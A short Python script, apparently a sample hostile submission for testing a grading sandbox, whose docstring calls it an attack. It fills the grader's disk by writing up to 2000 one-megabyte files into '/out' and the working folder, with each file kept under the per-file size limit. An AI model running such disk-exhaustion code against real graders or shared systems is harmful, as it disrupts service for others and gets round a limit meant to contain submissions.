"""Attack: fill the grader's disk with many files, each under the per-file size limit."""
import os

block = bytes(1 << 20)
for folder in ("/out", "."):
    for i in range(2000):
        try:
            with open(os.path.join(folder, f"filler{i}.bin"), "wb") as fh:
                fh.write(block)
        except OSError:
            break
